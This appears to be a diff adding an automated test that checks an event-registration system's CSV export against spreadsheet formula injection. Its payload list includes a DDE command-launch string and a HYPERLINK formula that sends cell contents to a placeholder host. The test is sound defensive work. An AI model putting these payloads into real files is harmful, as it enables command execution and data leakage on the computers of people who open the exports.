@@ -1,0 +1,104 @@
+import { rmSync } from 'node:fs';
+import { expect, test } from 'vitest';
+import { csv } from '../../src/server/csv.ts';
+import { newPlace } from '../startApp.ts';
+import { openOffice } from './office.ts';
+import { record } from './report.ts';
+import { openEvent, signUpForm } from './signUps.ts';
+import { startVillage } from './startVillage.ts';
+
+const starts = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠'];
+const ends = [
+  '1+1',
+  "cmd|' /C calc'!A0",
+  'HYPERLINK("https://mau.example?"&A1;"clique")',
+  'SUM(1,2);=1+1',
+  'x","=1+1',
+  'x";"=1+1',
+];
+const wraps = [
+  '',
+  ' ',
+  '"',
+  "'",
+  ';',
+  ',',
+  'Ana;',
+  'Ana,',
+  'Ana\t',
+  'Ana\n',
+  'Ana\r',
+  '\u00a0',
+  '\u200b',
+];
+const names = starts.flatMap((start) =>
+  ends.flatMap((end) => wraps.map((wrap) => `${wrap}${start}${end}`)),
+);
+
+/** Reads a sheet as a spreadsheet does: the mark goes, quotes keep what is between them together. */
+function readSheet(text: string, separator: string): string[][] {
+  const rows: string[][] = [[]];
+  let cell = '';
+  let quoted = false;
+  const endCell = () => {
+    rows.at(-1)?.push(cell);
+    cell = '';
+  };
+  const letters = [...text.replace(/^\ufeff/, '')];
+  for (let at = 0; at < letters.length; at++) {
+    const letter = letters[at] ?? '';
+    if (quoted) {
+      if (letter !== '"') cell += letter;
+      else if (letters[at + 1] === '"') cell += letters[at++];
+      else quoted = false;
+    } else if (letter === '"' && cell === '') quoted = true;
+    else if (letter === separator) endCell();
+    else if (letter === '\n') {
+      endCell();
+      rows.push([]);
+    } else if (letter !== '\r') cell += letter;
+  }
+  endCell();
+  return rows;
+}
+
+const isFormula = (cell: string) => /^[=+\-@\t\r\n＝＋－＠]/.test(cell);
+
+/** By a program whose list separator is the semicolon, as in Portugal, and by one with the comma. */
+function formulasIn(text: string): string[] {
+  return [';', ','].flatMap((separator) => readSheet(text, separator).flat().filter(isFormula));
+}
+
+test('no cell of an export is a formula', async () => {
+  const place = await newPlace('sqlite');
+  const village = await startVillage(place);
+  try {
+    const { send } = await openOffice(village.url);
+    const made = await send('POST', '/api/noticiasEventos/evento', openEvent('Feira', 10_000));
+    const { _id, identifier } = JSON.parse(made.body).noticiaEvento;
+    let booked = 0;
+    for (const [number, name] of names.entries()) {
+      const form = { ...signUpForm(_id, number), name };
+      const { status } = await send('POST', '/api/inscricoes/balcao', form);
+      expect([201, 422]).toContain(status);
+      if (status === 201) booked += 1;
+    }
+    const path = `/api/noticiasEventos/backoffice/${identifier}/inscricoes.csv`;
+    const sheet = await send('GET', path);
+    const rows = readSheet(sheet.body, ';').filter((row) => row.length > 1);
+    const formulas = formulasIn(sheet.body);
+    const typed = formulasIn(csv(names.map((name) => [name, 1, 'fim'])));
+    // The reader does see one where nothing guards it.
+    expect(formulasIn(names.join('\n')).length).toBeGreaterThan(100);
+    record({
+      promise: 'Exports are safe',
+      proof: `${names.length} names made of ${starts.length} dangerous beginnings, ${booked} of them booked and exported`,
+      reached: `${formulas.length + typed.length} formulas in ${rows.length * 9 + names.length * 3} cells, read with semicolons and with commas`,
+      promised: '0 formulas',
+      ok: formulas.length + typed.length === 0 && rows.length === booked + 1 && booked > 500,
+    });
+  } finally {
+    await village.kill();
+    rmSync(place.dataDir, { recursive: true });
+  }
+});
